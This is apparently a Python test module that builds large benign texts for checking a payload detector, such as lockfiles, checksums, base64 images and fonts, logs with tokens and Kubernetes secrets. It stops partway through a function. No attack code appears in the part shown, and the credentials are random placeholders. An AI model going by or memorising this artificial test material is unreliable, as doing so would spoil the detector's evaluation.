"""Big ordinary texts, made at test time: what developers and admins copy by the megabyte.

Every maker takes a size in characters and returns a deterministic text of about that size
(never more). HARMLESS is what must come back not flagged and complete whatever its size;
HIDDEN is the same kinds of text with a payload hidden in them, which must still be found (or
at least fail closed). Nothing here is stored: a megabyte is built in well under a second.

    .venv/bin/python -m tests.app.detection.bigtexts [--size BYTES] [--cli] [NAME ...]

prints, for each kind, the level and completeness bare, in a terminal and from an unknown
place (the measurement behind the issue's "size is not evidence").
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

KiB = 1024
MiB = 1024 * KiB
SEED = 9

Maker = Callable[[int], str]


# -- helpers ----------------------------------------------------------------------------------


def fill(rows: Callable[[int], str], size: int) -> str:
    """Rows 0, 1, 2… until the text is `size` characters long (cut at a line end)."""
    out: list[str] = []
    total, i = 0, 0
    while total < size:
        row = rows(i)
        out.append(row)
        total += len(row)
        i += 1
    text = "".join(out)
    return text[: text.rfind("\n", 0, size) + 1]


def digest(name: str, i: int, algorithm: str = "sha512") -> bytes:
    return hashlib.new(algorithm, f"{name}-{i}".encode()).digest()


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def wrapped(data: bytes, width: int = 76) -> str:
    """Base64 as `base64`, MIME and PEM write it: `width` characters a line."""
    text = b64(data)
    return "".join(text[i : i + width] + "\n" for i in range(0, len(text), width))


def _rng(name: str) -> random.Random:
    return random.Random(f"{SEED}-{name}")


def _noise(rng: random.Random, size: int) -> bytes:
    return rng.randbytes(max(0, size))


# -- files as their programs write them -------------------------------------------------------


def png(rng: random.Random, size: int) -> bytes:
    """A real PNG of about `size` bytes: signature, IHDR, a tEXt, deflated IDATs, IEND."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    width = 256
    height = max(1, size // (width * 3))
    rows = b"".join(b"\x00" + _noise(rng, width * 3) for _ in range(height))
    idat = zlib.compress(rows, 1)
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    out = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"tEXt", b"Software\x00Inkscape")
    for at in range(0, len(idat), 8192):
        out += chunk(b"IDAT", idat[at : at + 8192])
    return out + chunk(b"IEND", b"")


def jpeg(rng: random.Random, size: int) -> bytes:
    head = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00"
    exif = b"\xff\xe1\x00\x16Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00"
    scan = _noise(rng, size - 64).replace(b"\xff", b"\xfe")
    return (
        head + exif + b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00?\x00" + scan + b"\xff\xd9"
    )


def gif(rng: random.Random, size: int) -> bytes:
    return b"GIF89a\x20\x00\x20\x00\xf7\x00\x00" + _noise(rng, size - 14) + b";"


def webp(rng: random.Random, size: int) -> bytes:
    body = b"VP8 " + struct.pack("<I", size - 20) + _noise(rng, size - 20)
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def woff2(rng: random.Random, size: int) -> bytes:
    return b"wOF2\x00\x01\x00\x00" + struct.pack(">I", size) + _noise(rng, size - 12)


def woff(rng: random.Random, size: int) -> bytes:
    return b"wOFF\x00\x01\x00\x00" + struct.pack(">I", size) + _noise(rng, size - 12)


def truetype(rng: random.Random, size: int) -> bytes:
    tables = b"".join(
        tag + _noise(rng, 4) + struct.pack(">II", 12 + 16 * 4 + i * 64, 64)
        for i, tag in enumerate((b"cmap", b"glyf", b"head", b"name"))
    )
    return b"\x00\x01\x00\x00\x00\x04\x00\x40\x00\x02\x00\x00" + tables + _noise(rng, size - 76)


def pdf(rng: random.Random, size: int) -> bytes:
    """A PDF as a word processor writes one: objects, deflated page streams, a font, xref."""
    out = [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"]
    out.append(b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n")
    out.append(b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n")
    n = 3
    total = sum(map(len, out))
    while total < size - 200:
        words = " ".join(
            rng.choice(("quarterly", "report", "figure", "revenue", "table")) for _ in range(40)
        )
        page = f"BT /F1 11 Tf 72 {700 - n} Td ({words}) Tj ET\n".encode() * 8
        stream = zlib.compress(page + _noise(rng, 2048), 6)
        obj = (
            f"{n} 0 obj\n<< /Length {len(stream)} /Filter /FlateDecode >>\nstream\n".encode()
            + stream
            + b"\nendstream\nendobj\n"
        )
        out.append(obj)
        total += len(obj)
        n += 1
    out.append(f"xref\n0 {n}\ntrailer\n<< /Size {n} /Root 1 0 R >>\nstartxref\n0\n%%EOF\n".encode())
    return b"".join(out)[:size]


def zip_archive(rng: random.Random, size: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        i = 0
        while buffer.tell() < size - 4096:
            archive.writestr(f"assets/img_{i}.bin", _noise(rng, 4096))
            archive.writestr(f"docs/page_{i}.md", f"# Page {i}\n\nSee the figure.\n" * 20)
            i += 1
    return buffer.getvalue()


def gzip_data(rng: random.Random, size: int) -> bytes:
    """A gzipped tarball of binaries: the kind of blob a CI log or a Helm chart inlines."""
    return gzip.compress(_noise(rng, size), mtime=0)


def der_certificate(rng: random.Random, i: int) -> bytes:
    """A certificate-shaped DER blob: random key and signature, readable names and addresses."""
    names = (
        f"\x13\x02US\x13\x0dExample Corp {i % 7}\x0c\x12www{i}.example.org".encode()
        + b"\x16\x1dhttp://ocsp.example-ca.org/r3"
        + b"\x16\x22http://crl.example-ca.org/root-x1.crl"
    )
    body = b"\x30\x82\x04\x10\x30\x82\x02\xf8\xa0\x03\x02\x01\x02\x02\x10" + _noise(rng, 16)
    return (
        body
        + names
        + b"\x30\x82\x01\x22"
        + _noise(rng, 270)
        + b"\x03\x82\x01\x01"
        + _noise(rng, 256)
    )


# -- the harmless kinds -----------------------------------------------------------------------


def npm_lock(size: int = MiB) -> str:
    def row(i: int) -> str:
        return (
            f'    "node_modules/@scope{i % 97}/pkg-{i}": {{\n'
            f'      "version": "{i % 7}.{i % 13}.{i % 5}",\n'
            f'      "resolved": "https://registry.npmjs.org/@scope{i % 97}/pkg-{i}/-/pkg-{i}'
            f'-{i % 7}.{i % 13}.{i % 5}.tgz",\n'
            f'      "integrity": "sha512-{b64(digest("npm", i))}",\n'
            f'      "dev": true\n    }},\n'
        )

    return '{\n  "lockfileVersion": 3,\n  "packages": {\n' + fill(row, size - 64)


def yarn_lock(size: int = MiB) -> str:
    def row(i: int) -> str:
        sha1 = digest("yarn", i, "sha1").hex()
        return (
            f'"pkg-{i}@^{i % 9}.0.0":\n  version "{i % 9}.1.{i % 4}"\n'
            f'  resolved "https://registry.yarnpkg.com/pkg-{i}/-/pkg-{i}-{i % 9}.1.{i % 4}.tgz'
            f'#{sha1}"\n  integrity sha512-{b64(digest("yarn", i))}\n\n'
        )

    head = "# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.\n"
    return head + fill(row, size - len(head))


def yarn_berry_lock(size: int = MiB) -> str:
    """Yarn 2+: checksums are 128 hex digits behind a cache key."""

    def row(i: int) -> str:
        return (
            f'"pkg-{i}@npm:^{i % 9}.0.0":\n  version: {i % 9}.1.{i % 4}\n'
            f'  resolution: "pkg-{i}@npm:{i % 9}.1.{i % 4}"\n'
            f"  checksum: 10c0/{digest('berry', i).hex()}\n"
            f"  languageName: node\n  linkType: hard\n\n"
        )

    head = "__metadata:\n  version: 8\n  cacheKey: 10c0\n\n"
    return head + fill(row, size - len(head))


def pnpm_lock(size: int = MiB) -> str:
    def row(i: int) -> str:
        return (
            f"  /pkg-{i}@{i % 9}.0.{i % 3}:\n"
            f"    resolution: {{integrity: sha512-{b64(digest('pnpm', i))}}}\n"
            f"    engines: {{node: '>=14'}}\n    dev: false\n\n"
        )

    head = "lockfileVersion: '6.0'\n\npackages:\n\n"
    return head + fill(row, size - len(head))


def go_sum(size: int = MiB) -> str:
    def row(i: int) -> str:
        mod = f"github.com/org{i % 211}/module-{i}"
        return (
            f"{mod} v1.{i % 40}.{i % 7} h1:{b64(digest('go', i, 'sha256'))}\n"
            f"{mod} v1.{i % 40}.{i % 7}/go.mod h1:{b64(digest('gomod', i, 'sha256'))}\n"
        )

    return fill(row, size)


def cargo_lock(size: int = MiB) -> str:
    def row(i: int) -> str:
        return (
            f'[[package]]\nname = "crate-{i}"\nversion = "0.{i % 30}.{i % 11}"\n'
            'source = "registry+https://github.com/rust-lang/crates.io-index"\n'
            f'checksum = "{digest("cargo", i, "sha256").hex()}"\n'
            f'dependencies = [\n "crate-{i + 1}",\n]\n\n'
        )

    head = "# This file is automatically @generated by Cargo.\nversion = 3\n\n"
    return head + fill(row, size - len(head))


def pip_hashes(size: int = MiB) -> str:
    def row(i: int) -> str:
        return (
            f"package-{i}=={i % 5}.{i % 17}.0 \\\n"
            f"    --hash=sha256:{digest('pip', i, 'sha256').hex()} \\\n"
            f"    --hash=sha256:{digest('pip2', i, 'sha256').hex()}\n"
        )

    return fill(row, size)


def composer_lock(size: int = MiB) -> str:
    def row(i: int) -> str:
        ref = digest("git", i, "sha1").hex()
        return (
            f'        {{\n            "name": "vendor{i % 50}/lib-{i}",\n'
            f'            "version": "v{i % 9}.{i % 4}.0",\n'
            f'            "dist": {{"type": "zip", "url": "https://api.github.com/repos/'
            f'vendor{i % 50}/lib-{i}/zipball/{ref}", "reference": "{ref}", "shasum": ""}}\n'
            "        },\n"
        )

    head = '{\n    "content-hash": "' + digest("c", 0, "md5").hex() + '",\n'
    return head + fill(row, size - len(head))


def sha256sums(size: int = MiB) -> str:
    def row(i: int) -> str:
        return f"{digest('sum', i, 'sha256').hex()}  release/app-{i}-linux-amd64.tar.gz\n"

    return fill(row, size)


def md5_and_sha1_sums(size: int = MiB) -> str:
    def row(i: int) -> str:
        return (
            f"MD5 (dist/file-{i}.whl) = {digest('m', i, 'md5').hex()}\n"
            f"SHA1 (dist/file-{i}.whl) = {digest('s', i, 'sha1').hex().upper()}\n"
        )

    return fill(row, size)


def hex_dump(size: int = MiB) -> str:
    """`xxd -p` of random binary: 60 hex digits a line."""
    rng = random.Random(SEED)
    return fill(lambda i: rng.randbytes(30).hex() + "\n", size)


def xxd_dump(size: int = MiB) -> str:
    rng = random.Random(SEED)

    def row(i: int) -> str:
        chunk = rng.randbytes(16)
        groups = " ".join(chunk[j : j + 2].hex() for j in range(0, 16, 2))
        shown = "".join(chr(b) if 32 <= b < 127 else "." for b in chunk)
        return f"{i * 16:08x}: {groups}  {shown}\n"

    return fill(row, size)


def hexdump_of_text(size: int = MiB) -> str:
    """`xxd` of a text file: the hex spells out readable text (a man page, a config)."""
    prose = (
        b"NAME\n    ls - list directory contents\nSYNOPSIS\n    ls [OPTION]... [FILE]...\n"
        b"DESCRIPTION\n    List information about the FILEs (the current directory by default).\n"
    ) * 4000

    def row(i: int) -> str:
        chunk = prose[i * 16 : i * 16 + 16]
        groups = " ".join(chunk[j : j + 2].hex() for j in range(0, 16, 2))
        shown = "".join(chr(b) if 32 <= b < 127 else "." for b in chunk)
        return f"{i * 16:08x}: {groups}  {shown}\n"

    return fill(row, size)


def _data_uri_page(mime: str, make: Callable[[random.Random, int], bytes]) -> Maker:
    def page(size: int = MiB) -> str:
        room = (size - 64 - len(mime)) * 3 // 4
        data = make(_rng(mime), room)[:room]
        return f'<img alt="figure" src="data:{mime};base64,{b64(data)}">\n'

    return page


def _bare(make: Callable[[random.Random, int], bytes], name: str, width: int = 0) -> Maker:
    def text(size: int = MiB) -> str:
        chars = size * width // (width + 1) if width else size - 1
        room = (chars - 4) * 3 // 4
        data = make(_rng(name), room)[:room]
        return wrapped(data, width) if width else b64(data) + "\n"

    return text


png_data_uri = _data_uri_page("image/png", png)
jpeg_data_uri = _data_uri_page("image/jpeg", jpeg)
gif_data_uri = _data_uri_page("image/gif", gif)
webp_data_uri = _data_uri_page("image/webp", webp)
pdf_data_uri = _data_uri_page("application/pdf", pdf)
png_bare = _bare(png, "png")
png_wrapped = _bare(png, "png-wrapped", 76)
jpeg_bare = _bare(jpeg, "jpeg")
pdf_wrapped = _bare(pdf, "pdf-wrapped", 76)
zip_bare = _bare(zip_archive, "zip")
zip_wrapped = _bare(zip_archive, "zip-wrapped", 76)
gzip_bare = _bare(gzip_data, "gzip")
woff2_bare = _bare(woff2, "woff2")


def css_with_fonts(size: int = MiB) -> str:
    """A stylesheet that inlines many small images and fonts of every format."""
    rng = _rng("css")

    def row(i: int) -> str:
        image = b64(gif(rng, 300 + i % 200))
        return f".icon-{i} {{ background: url(data:image/gif;base64,{image}) no-repeat; }}\n"

    fonts = "".join(
        f"@font-face {{ font-family: f{j}; src: url(data:{mime};base64,{b64(make(rng, 24 * KiB))}) "
        f"format('{fmt}'); }}\n"
        for j, (mime, make, fmt) in enumerate(
            (
                ("font/woff2", woff2, "woff2"),
                ("font/woff", woff, "woff"),
                ("font/ttf", truetype, "truetype"),
                ("application/font-woff", woff, "woff"),
            )
        )
    )
    return fonts + fill(row, size - len(fonts))


def mime_email(size: int = MiB) -> str:
    """An e-mail as its source shows it: a text part, PNG, PDF and zip attachments."""
    rng = _rng("mime")
    parts = [
        "From: Ana <ana@example.org>\nTo: team@example.org\nSubject: Q3 report\n"
        'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b1"\n\n'
        "--b1\nContent-Type: text/plain; charset=utf-8\n\nHi all, the report is attached.\n\n"
    ]
    total, i = len(parts[0]), 0
    kinds = (
        ("image/png", png, "png"),
        ("application/pdf", pdf, "pdf"),
        ("application/zip", zip_archive, "zip"),
    )
    while total < size:
        mime, make, ext = kinds[i % 3]
        part = (
            f'--b1\nContent-Type: {mime}; name="file{i}.{ext}"\nContent-Transfer-Encoding: base64\n'
            f'Content-Disposition: attachment; filename="file{i}.{ext}"\n\n'
            + wrapped(make(rng, 40 * KiB))
            + "\n"
        )
        parts.append(part)
        total += len(part)
        i += 1
    text = "".join(parts)
    return text[: text.rfind("\n", 0, size - 8) + 1] + "--b1--\n"


def source_map(size: int = MiB) -> str:
    """A webpack source map: VLQ mappings, names and the sources' own text."""
    rng = _rng("map")
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

    letters = bytes.maketrans(bytes(range(64)), alphabet.encode())

    def segment() -> str:
        size = rng.choice((4, 4, 5, 6, 8))
        return bytes(b & 63 for b in rng.randbytes(size)).translate(letters).decode()

    sources = [f"webpack://app/./src/components/Widget{i}.tsx" for i in range(60)]
    contents = [
        (
            f"import React, {{ useEffect, useState }} from 'react';\n"
            f"import {{ fetchItems }} from '../api/items';\n\n"
            f"export function Widget{i}({{ id }}: {{ id: string }}) {{\n"
            f"  const [items, setItems] = useState<string[]>([]);\n"
            f"  useEffect(() => {{ fetchItems(`/api/v1/widgets/${{id}}`).then(setItems); }}, [id]);\n"
            f"  return <ul>{{items.map((x) => <li key={{x}}>{{x}}</li>)}}</ul>;\n}}\n"
        )
        for i in range(60)
    ]
    head = json.dumps(
        {"version": 3, "file": "main.3f9a1c.js", "sources": sources, "sourcesContent": contents}
    )
    head = (
        head[:-1]
        + ', "names": ["React","useEffect","useState","fetchItems","items","setItems"], "mappings": "'
    )
    segments = [segment() for _ in range(2048)]  # reused: the text is what matters, not variety
    lines = []
    total = len(head)
    while total < size - 32:
        count = rng.randrange(4, 40)
        start = rng.randrange(0, len(segments) - count)
        line = ",".join(segments[start : start + count])
        lines.append(line)
        total += len(line) + 1
    text = head + ";".join(lines)
    return text[: size - 3] + '"}\n'


def minified_js(size: int = MiB) -> str:
    """A minified bundle: one long line of short names, strings, hashes of its chunks."""

    def row(i: int) -> str:
        chunk = digest("chunk", i, "md5").hex()[:20]
        return (
            f'function a{i}(b,c){{var d=b.map(function(e){{return e.id+"-{i}"}});'
            f'return c?d.filter(Boolean):d.join(",")}}n[{i}]=["chunk.{chunk}.js",a{i}];'
            f'var k{i}={{cls:"Btn_root__{b64(digest("css", i, "md5"))[:12]}",h:{i * 7}}};'
        )

    return fill(lambda i: row(i) + "\n" if i % 40 == 39 else row(i), size)


def minified_js_one_line(size: int = MiB) -> str:
    """A production bundle as one line, with its inlined images and a sourceMappingURL."""
    rng = _rng("bundle")

    def row(i: int) -> str:
        if i % 50 == 7:
            return f'var img{i}="data:image/png;base64,{b64(png(rng, 1500))}";'
        return (
            f"var t{i}=function(e,n){{return e&&e.__esModule?e:{{default:e}}}}(r({i}));"
            f'o.exports={{name:"c{i}",props:{{a:Number,b:String}},render:function(){{return this.a*{i}}}}};'
        )

    rows: list[str] = []
    total, i = 0, 0
    while total < size - 1024:
        rows.append(row(i))
        total += len(rows[-1])
        i += 1
    return "".join(rows) + "\n//# sourceMappingURL=main.3f9a1c.js.map\n"


def big_json(size: int = MiB) -> str:
    """An API response: ids, hashes, timestamps, addresses and small inlined thumbnails."""
    rng = _rng("json")

    def row(i: int) -> str:
        item = {
            "id": f"{rng.getrandbits(128):032x}",
            "sha": digest("json", i, "sha1").hex(),
            "etag": b64(digest("etag", i, "md5")),
            "created": f"2026-11-{i % 28 + 1:02d}T10:{i % 60:02d}:00Z",
            "url": f"https://api.example.org/v2/items/{i}",
            "name": f"Item number {i}",
            "tags": ["red", "blue", f"t{i % 13}"],
            "thumb": "data:image/webp;base64," + b64(webp(rng, 300)) if i % 10 == 0 else None,
        }
        return "  " + json.dumps(item) + ",\n"

    return "[\n" + fill(row, size - 8).rstrip(",\n") + "\n]\n"


def csv_numbers(size: int = MiB) -> str:
    """Sensor readings: a CSV of small integers (lists of numbers are what char codes look like)."""
    rng = _rng("csv")

    def row(i: int) -> str:
        return ",".join(str(rng.randrange(0, 160)) for _ in range(24)) + "\n"

    return (
        "t0,t1,t2,t3,t4,t5,t6,t7,t8,t9,t10,t11,t12,t13,t14,t15,t16,t17,t18,t19,t20,t21,t22,t23\n"
        + fill(row, size - 100)
    )


def csv_records(size: int = MiB) -> str:
    rng = _rng("csv-records")

    def row(i: int) -> str:
        return (
            f"{i},{rng.getrandbits(64):016x},user{i}@example.org,"
            f"{b64(digest('pw', i, 'sha256'))},{b64(rng.randbytes(24))},"
            f"2026-11-{i % 28 + 1:02d},{rng.randrange(100, 99999) / 100}\n"
        )

    return "id,account,email,password_hash,api_key,created,balance\n" + fill(row, size - 64)


def xml_with_binary(size: int = MiB) -> str:
    """A SOAP answer carrying documents and signatures as base64 elements."""
    rng = _rng("xml")

    def row(i: int) -> str:
        return (
            f'  <doc id="{i}" type="application/pdf"><name>invoice-{i}.pdf</name>\n'
            f"    <content>{b64(pdf(rng, 3000))}</content>\n"
            f"    <ds:DigestValue>{b64(digest('xml', i, 'sha256'))}</ds:DigestValue>\n"
            f"    <ds:SignatureValue>{b64(rng.randbytes(256))}</ds:SignatureValue>\n  </doc>\n"
        )

    head = '<?xml version="1.0" encoding="UTF-8"?>\n<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope">\n'
    return head + fill(row, size - len(head) - 20) + "</soap:Envelope>\n"


def svg_drawing(size: int = MiB) -> str:
    """An SVG: path data, polyline points (lists of numbers) and an embedded raster image."""
    rng = _rng("svg")

    def row(i: int) -> str:
        points = " ".join(f"{rng.randrange(30, 126)},{rng.randrange(30, 126)}" for _ in range(12))
        path = " ".join(f"L{rng.randrange(0, 800)} {rng.randrange(0, 600)}" for _ in range(10))
        if i % 200 == 0:
            return f'  <image x="0" y="0" width="64" height="64" href="data:image/png;base64,{b64(png(rng, 6000))}"/>\n'
        return f'  <polyline points="{points}" fill="none"/>\n  <path d="M0 0 {path} Z" stroke="#{i % 4096:03x}"/>\n'

    head = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 800 600">\n'
    return head + fill(row, size - len(head) - 8) + "</svg>\n"


def pem_chain(size: int = MiB) -> str:
    """A CA bundle: certificates, 64 characters a line, with their subjects as comments."""
    rng = _rng("pem")

    def row(i: int) -> str:
        return (
            f"# Example Root CA {i}\n-----BEGIN CERTIFICATE-----\n"
            + wrapped(der_certificate(rng, i), 64)
            + "-----END CERTIFICATE-----\n\n"
        )

    return fill(row, size)


def ssh_known_hosts(size: int = MiB) -> str:
    rng = _rng("ssh")

    def blob(kind: bytes, body: bytes) -> str:
        return b64(struct.pack(">I", len(kind)) + kind + body)

    def row(i: int) -> str:
        ed = blob(b"ssh-ed25519", b"\x00\x00\x00\x20" + rng.randbytes(32))
        rsa = blob(
            b"ssh-rsa", b"\x00\x00\x00\x03\x01\x00\x01\x00\x00\x01\x01\x00" + rng.randbytes(256)
        )
        ecdsa = blob(
            b"ecdsa-sha2-nistp256",
            b"\x00\x00\x00\x08nistp256\x00\x00\x00\x41\x04" + rng.randbytes(64),
        )
        salt, mac = b64(rng.randbytes(20)), b64(rng.randbytes(20))
        return (
            f"host{i}.example.org,10.1.{i % 250}.{i % 200} ssh-ed25519 {ed}\n"
            f"|1|{salt}|{mac} ssh-rsa {rsa}\n"
            f"[git{i}.example.org]:2222 ecdsa-sha2-nistp256 {ecdsa}\n"
        )

    return fill(row, size)


def _jwt(rng: random.Random, i: int) -> str:
    def part(obj: object) -> str:
        return (
            base64.urlsafe_b64encode(json.dumps(obj, separators=(",", ":")).encode())
            .decode()
            .rstrip("=")
        )

    header = part({"alg": "RS256", "typ": "JWT", "kid": f"k{i % 4}"})
    claims = part(
        {
            "iss": "https://login.example.org/",
            "sub": f"{rng.getrandbits(64):x}",
            "aud": "api://default",
            "iat": 1764900000 + i,
            "exp": 1764903600 + i,
            "scp": ["openid", "profile", "email"],
            "name": f"User {i}",
        }
    )
    signature = base64.urlsafe_b64encode(rng.randbytes(256)).decode().rstrip("=")
    return f"{header}.{claims}.{signature}"


def app_log(size: int = MiB) -> str:
    """A service log: request ids, bearer tokens (JWTs), cookies and base64 request bodies."""
    rng = _rng("log")

    def row(i: int) -> str:
        body = b64(
            json.dumps({"page": i % 30, "filter": {"color": "red"}, "ids": [i, i + 1]}).encode()
        )
        return (
            f"2026-12-05T12:{i % 60:02d}:{i % 60:02d}.{i % 1000:03d}Z INFO  [req {rng.getrandbits(64):016x}] "
            f"GET /api/v1/items?page={i % 30} user=u{i % 500} "
            f"authorization=Bearer {_jwt(rng, i)} session={b64(rng.randbytes(32))}\n"
            f"2026-12-05T12:{i % 60:02d}:{i % 60:02d}.{i % 1000:03d}Z DEBUG body={body} took={i % 97}ms\n"
        )

    return fill(row, size)


def jwt_list(size: int = MiB) -> str:
    rng = _rng("jwt")
    return fill(lambda i: _jwt(rng, i) + "\n", size)


def jupyter_notebook(size: int = MiB) -> str:
    """A notebook with plots saved in it (base64 PNGs) and code cells that install and import."""
    rng = _rng("ipynb")
    cells = []
    total, i = 0, 0
    while total < size - 2048:
        cells.append(
            {
                "cell_type": "code",
                "execution_count": i + 1,
                "metadata": {},
                "source": [
                    "!pip install -q pandas matplotlib\n" if i == 0 else f"# figure {i}\n",
                    "import pandas as pd\nimport matplotlib.pyplot as plt\n",
                    f"df = pd.read_csv('data/run_{i}.csv')\ndf.plot(x='t', y='v')\nplt.show()\n",
                ],
                "outputs": [
                    {
                        "data": {
                            "image/png": b64(png(rng, 30 * KiB)) + "\n",
                            "text/plain": ["<Figure size 640x480 with 1 Axes>"],
                        },
                        "metadata": {"needs_background": "light"},
                        "output_type": "display_data",
                    }
                ],
            }
        )
        total += 41 * KiB
        i += 1
    notebook = {
        "cells": cells,
        "metadata": {"kernelspec": {"name": "python3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    text = json.dumps(notebook, indent=1)
    while len(text) > size and len(notebook["cells"]) > 1:  # type: ignore[arg-type]
        notebook["cells"].pop()  # type: ignore[attr-defined]
        text = json.dumps(notebook, indent=1)
    return text + "\n"


def kubernetes_manifests(size: int = MiB) -> str:
    """Secrets (TLS pairs, registry credentials, passwords) and ConfigMaps with binary data."""
    rng = _rng("k8s")

    def pem(label: str, body: bytes) -> bytes:
        return (
            f"-----BEGIN {label}-----\n" + wrapped(body, 64) + f"-----END {label}-----\n"
        ).encode()

    def row(i: int) -> str:
        docker = json.dumps(
            {
                "auths": {
                    "registry.example.org": {
                        "auth": b64(f"robot{i}:{rng.getrandbits(96):x}".encode())
                    }
                }
            }
        ).encode()
        return (
            "---\napiVersion: v1\nkind: Secret\nmetadata:\n"
            f"  name: web-{i}-tls\n  namespace: prod\ntype: kubernetes.io/tls\ndata:\n"
            f"  tls.crt: {b64(pem('CERTIFICATE', der_certificate(rng, i)))}\n"
            f"  tls.key: {b64(pem('PRIVATE KEY', rng.randbytes(1190)))}\n"
            "---\napiVersion: v1\nkind: Secret\nmetadata:\n"
            f"  name: pull-{i}\ntype: kubernetes.io/dockerconfigjson\ndata:\n"
            f"  .dockerconfigjson: {b64(docker)}\n"
            "---\napiVersion: v1\nkind: Secret\nmetadata:\n"
            f"  name: db-{i}\ntype: Opaque\ndata:\n"
            f"  username: {b64(f'app{i}'.encode())}\n  password: {b64(rng.randbytes(18))}\n"
            f"  DATABASE_URL: {b64(f'postgres://app{i}:{rng.getrandbits(64):x}@db-{i}.prod.svc:5432/app'.encode())}\n"
            "---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n"
            f"  name: assets-{i}\nbinaryData:\n  logo.png: {b64(png(rng, 900))}\n"
            f'data:\n  LOG_LEVEL: info\n  FEATURE_FLAGS: "search,export"\n'
        )

    return fill(row, size)


def saml_log(size: int = MiB) -> str:
    """An SSO debug log: base64 SAML responses (XML with a signature and a certificate)."""
    rng = _rng("saml")

    def row(i: int) -> str:
        cert = b64(der_certificate(rng, i))
        xml = (
            f'<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_{rng.getrandbits(80):x}" '
            f'Version="2.0" IssueInstant="2026-12-05T12:00:{i % 60:02d}Z">'
            f"<saml:Issuer>https://idp.example.org/saml</saml:Issuer><ds:Signature><ds:SignatureValue>"
            f"{b64(rng.randbytes(256))}</ds:SignatureValue><ds:X509Certificate>{cert}</ds:X509Certificate>"
            f"</ds:Signature><saml:NameID>user{i}@example.org</saml:NameID></samlp:Response>"
        )
        return f"2026-12-05 12:00:{i % 60:02d} DEBUG SAMLResponse={b64(xml.encode())}\n"

    return fill(row, size)


HARMLESS: dict[str, Maker] = {
    "npm package-lock.json": npm_lock,
    "yarn.lock": yarn_lock,
    "yarn berry lock": yarn_berry_lock,
    "pnpm-lock.yaml": pnpm_lock,
    "go.sum": go_sum,
    "Cargo.lock": cargo_lock,
    "requirements.txt with hashes": pip_hashes,
    "composer.lock": composer_lock,
    "SHA256SUMS": sha256sums,
    "MD5 and SHA1 sums": md5_and_sha1_sums,
    "xxd -p hex dump": hex_dump,
    "xxd hex dump": xxd_dump,
    "xxd of a text file": hexdump_of_text,
    "PNG data: URI": png_data_uri,
    "JPEG data: URI": jpeg_data_uri,
    "GIF data: URI": gif_data_uri,
    "WebP data: URI": webp_data_uri,
    "PDF data: URI": pdf_data_uri,
    "bare base64 PNG": png_bare,
    "bare base64 PNG, wrapped": png_wrapped,
    "bare base64 JPEG": jpeg_bare,
    "bare base64 PDF, wrapped": pdf_wrapped,
    "bare base64 zip": zip_bare,
    "bare base64 zip, wrapped": zip_wrapped,
    "bare base64 gzip": gzip_bare,
    "bare base64 WOFF2": woff2_bare,
    "CSS with inlined images and fonts": css_with_fonts,
    "e-mail source with attachments": mime_email,
    "source map": source_map,
    "minified JavaScript": minified_js,
    "minified JavaScript, one line": minified_js_one_line,
    "JSON API response": big_json,
    "CSV of numbers": csv_numbers,
    "CSV of records": csv_records,
    "XML with base64 documents": xml_with_binary,
    "SVG drawing": svg_drawing,
    "PEM certificate chain": pem_chain,
    "SSH known_hosts": ssh_known_hosts,
    "service log with tokens": app_log,
    "JWTs": jwt_list,
    "Jupyter notebook with plots": jupyter_notebook,
    "Kubernetes secrets and config maps": kubernetes_manifests,
    "SAML debug log": saml_log,
}


# -- ordinary texts of a few hundred KiB: code, logs, licences ---------------------------------
# (issue 9, "size is not evidence": what a developer or an admin copies whole from an editor)


def python_module(size: int = 300 * KiB) -> str:
    """A large Python module with its tests: classes, docstrings, subprocess and os calls,
    aligned comments, URLs in docstrings, regexes, and the escapes encoder tests write (lone
    surrogates among them)."""

    def row(i: int) -> str:
        return (
            f"class Handler{i}(BaseHandler):\n"
            f'    """Serve /api/v{i % 3 + 1}/items/{{id}}; see https://docs.example.org/handlers#{i}."""\n\n'
            f"    retries = {i % 5}            # how often a failed call is tried again\n"
            f"    pattern = re.compile(r'^(?P<name>[a-z_]+)-(?P<n>\\d+)$')\n\n"
            f"    def run(self, path: str) -> int:\n"
            f"        out = subprocess.run(['git', 'log', '-n', '{i % 9 + 1}', '--', path],\n"
            f"                             capture_output=True, text=True, check=False)\n"
            f"        if out.returncode:\n"
            f"            log.warning('git failed on %s: %s', path, out.stderr.strip())\n"
            f"        with open(os.path.join(self.root, 'cache-{i}.json'), 'w') as f:\n"
            f"            json.dump({{'n': {i}, 'lines': out.stdout.splitlines()}}, f)\n"
            f"        return len(out.stdout)\n\n"
            f"    def test_roundtrip_{i}(self) -> None:\n"
            f"        s = '\\udc{i % 256:02x}\\ud83d\\ude00 caf\\u00e9 {i}'\n"
            f"        self.assertEqual(s.encode('utf-8', 'surrogateescape').decode("
            f"'utf-8', 'surrogateescape'), s)\n\n\n"
        )

    head = (
        '"""Request handlers and their tests."""\n\nimport json\nimport logging\nimport os\n'
